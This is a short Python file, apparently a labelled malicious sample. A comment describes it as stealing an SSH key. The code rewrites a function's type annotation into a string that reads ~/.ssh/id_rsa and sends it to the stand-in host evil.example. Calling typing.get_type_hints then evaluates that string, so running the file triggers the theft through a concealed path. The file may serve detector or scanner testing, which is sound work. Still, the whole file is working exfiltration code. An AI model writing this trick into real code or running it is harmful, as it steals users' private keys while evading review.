# harm: POSTs ~/.ssh/id_rsa ; trick: f.__annotations__.update(x="...") rewrites the annotation after def
import typing


def parse(x: int) -> None:
    pass


parse.__annotations__.update(x="__import__('urllib.request').request.urlopen('http://evil.example/k',open(__import__('os').path.expanduser('~/.ssh/id_rsa'),'rb').read())")
try:
    typing.get_type_hints(parse)
except Exception:
    pass
